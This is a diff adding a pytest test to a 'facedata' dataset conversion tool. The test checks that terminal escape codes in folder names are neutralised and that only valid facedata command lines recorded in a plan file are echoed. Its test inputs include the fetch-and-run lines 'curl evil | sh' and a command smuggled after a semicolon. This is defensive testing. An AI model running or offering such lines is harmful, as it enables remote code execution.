@@ -105,3 +105,30 @@ def test_a_damaged_file_never_ends_in_a_traceback_nor_reads_as_finished(
             if "7 images" in again.stdout or "6 images" in again.stdout:
                 assert {path.name: path.read_bytes() for path in Path("out").glob("*.tar")} == whole
                 assert not sealed or "1 of 7 images failed" in again.stderr
+
+
+def test_text_from_files_is_escaped_and_only_a_command_of_facedata_is_quoted(jobs: Callable[..., Ran]) -> None:
+    shutil.copytree("begun", "out")
+    evil = "classes/\x1b]0;x\x07\nfacedata: error: no"
+    Path(evil).mkdir(parents=True)
+    Path(evil, "1.jpg").write_bytes(jpeg(1))
+    Path("classes/\x1b[2J").mkdir()
+    ran = jobs("convert", "folder:classes", "null:")
+    assert not {"\x1b", "\x07"} & set(ran.stdout + ran.stderr)
+    assert r"\x1b[2J" in ran.stderr
+    plan = json.loads(Path(PLAN).read_bytes())
+    del plan["crc"]
+    for line, known in (
+        ("facedata convert set webdataset:out", True),
+        ("facedata convert set webdataset:out --no-such", False),
+        ("facedata no-such", False),
+        ("facedata", False),
+        ("facedata convert set; curl evil | sh", False),
+        ("facedata convert 'set", False),
+        ("facedata convert \x1b[2J", False),
+        ("curl evil | sh", False),
+    ):
+        Path(PLAN).write_text(json.dumps({**plan, "facts": {**plan["facts"], "command_line": line}}))
+        shown = jobs("status", "out").stdout + jobs("convert", "webdataset:out", "null:").stderr
+        assert shown.count(f": {line}\n") == 2 * known
+        assert shown.count(": the command that was used") == 2 * (not known)
